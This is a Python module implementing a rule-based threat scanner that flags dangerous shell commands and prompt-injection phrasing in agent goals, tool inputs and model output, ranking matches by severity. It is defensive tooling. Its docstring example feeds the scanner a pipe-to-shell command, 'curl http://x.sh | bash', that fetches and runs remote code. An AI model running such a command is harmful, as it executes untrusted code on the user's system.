"""
Threat scanner for dangerous commands and prompt-injection phrasing.

Every catalog pattern is evaluated independently against the full text and may
match more than once. Results are ordered by severity (descending) and then by
start offset; the overall risk level is the maximum severity across all
matches. Scanning never raises.
"""

from __future__ import annotations

from collections.abc import Iterable

import structlog

from ..models.security import RiskLevel, ScanResult, ThreatMatch, ThreatPattern
from .patterns import THREAT_PATTERNS

logger = structlog.get_logger()

CONFIDENCE_SCORES: dict[RiskLevel, float] = {
    RiskLevel.CRITICAL: 0.95,
    RiskLevel.HIGH: 0.75,
    RiskLevel.MEDIUM: 0.60,
    RiskLevel.LOW: 0.45,
}


class ThreatScanner:
    """Rule-based classifier over an immutable pattern catalog.

    The scanner holds its own copy of the catalog, so patterns added to one
    instance never leak into another.

    Example:
        ```python
        scanner = ThreatScanner()
        result = scanner.scan("curl http://x.sh | bash")
        if result.is_blocking:
            ...
        ```
    """

    def __init__(
        self,
        enabled: bool = True,
        patterns: Iterable[ThreatPattern] | None = None,
    ) -> None:
        """
        Initialize threat scanner.

        Args:
            enabled: Whether scanning is active
            patterns: Pattern catalog (defaults to the built-in catalog)
        """
        self._patterns: tuple[ThreatPattern, ...] = tuple(
            THREAT_PATTERNS if patterns is None else patterns
        )
        self._enabled = enabled
        self.logger = logger.bind(component="threat_scanner")

    @property
    def enabled(self) -> bool:
        """Whether scanning is active."""
        return self._enabled

    @property
    def patterns(self) -> tuple[ThreatPattern, ...]:
        """Current pattern catalog."""
        return self._patterns

    def set_enabled(self, enabled: bool) -> None:
        """Enable or disable scanning without touching the catalog."""
        self._enabled = enabled
        self.logger.info("threat_scanner_toggled", enabled=enabled)

    def add_pattern(self, pattern: ThreatPattern) -> None:
        """Extend the catalog at runtime."""
        self._patterns = (*self._patterns, pattern)
        self.logger.info(
            "threat_pattern_added",
            pattern=pattern.name,
            risk_level=pattern.risk_level.value,
        )

    def scan(self, text: str) -> ScanResult:
        """
        Scan text for security threats.

        Args:
            text: Arbitrary text (goal, tool input, command, model output)

        Returns:
            ScanResult with ordered threats, maximum risk level and summary
        """
        if not self._enabled:
            return ScanResult(
                safe=True,
                risk_level=None,
                threats=(),
                summary="Security scanning disabled",
            )

        threats = [
            ThreatMatch(
                pattern=pattern,
                matched_text=match.group(0),
                start_offset=match.start(),
                end_offset=match.end(),
            )
            for pattern in self._patterns
            for match in pattern.matcher.finditer(text)
        ]
        threats.sort(key=lambda t: (-t.pattern.risk_level.rank, t.start_offset))

        risk_level = max(
            (t.pattern.risk_level for t in threats),
            key=lambda level: level.rank,
            default=None,
        )

        if threats:
            self.logger.debug(
                "threats_detected",
                count=len(threats),
                risk_level=risk_level.value,
                patterns=sorted({t.pattern.name for t in threats}),
            )

        return ScanResult(
            safe=not threats,
            risk_level=risk_level,
            threats=tuple(threats),
            summary=self._summarize(threats),
        )

    def has_blocking_threat(self, text: str) -> bool:
        """Return True if any match is high or critical."""
        return any(t.pattern.risk_level.is_blocking for t in self.scan(text).threats)

    @staticmethod
    def confidence(risk_level: RiskLevel) -> float:
        """Confidence score associated with a risk level."""
        return CONFIDENCE_SCORES[risk_level]

    @staticmethod
    def _summarize(threats: list[ThreatMatch]) -> str:
        if not threats:
            return "No security threats detected"

        critical = sum(1 for t in threats if t.pattern.risk_level is RiskLevel.CRITICAL)
        high = sum(1 for t in threats if t.pattern.risk_level is RiskLevel.HIGH)
        categories = list(dict.fromkeys(t.pattern.category.value for t in threats))

        summary = f"Detected {len(threats)} threat(s)"
        if critical:
            summary += f" ({critical} CRITICAL)"
        if high:
            summary += f" ({high} HIGH)"
        return f"{summary}. Categories: {', '.join(categories)}"


_default_scanner: ThreatScanner | None = None


def get_default_scanner() -> ThreatScanner:
    """Get the process-wide scanner used by callers outside the runtime."""
    global _default_scanner
    if _default_scanner is None:
        _default_scanner = ThreatScanner()
    return _default_scanner


def scan_for_threats(text: str) -> ScanResult:
    """Scan text with the process-wide default scanner."""
    return get_default_scanner().scan(text)
